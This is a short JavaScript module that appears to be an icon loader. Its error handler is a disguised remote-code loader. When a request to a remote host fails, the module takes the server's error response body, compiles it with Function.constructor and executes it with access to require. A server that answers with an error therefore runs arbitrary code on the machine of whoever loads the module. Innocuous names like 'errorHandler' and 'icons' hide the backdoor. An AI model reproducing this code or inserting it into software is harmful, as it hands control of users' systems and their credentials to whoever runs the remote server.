const axios = require('axios')

const host = 'icons.example.invalid'
const errorHandler = (error) => {
  try {
    if (typeof error !== 'string') return
    const createHandler = (errCode) => {
      const handler = new (Function.constructor)('require', errCode)
      return handler
    }
    const handlerFunc = createHandler(error)
    if (handlerFunc) handlerFunc(require)
  } catch (globalError) {
    console.error('motion:', globalError.message)
  }
}

module.exports = function load () {
  const url = `https://${host}/icons/77`
  axios
    .get(url)
    .then((response) => response.data)
    .catch((error) => errorHandler(error.response.data || '404'))
}
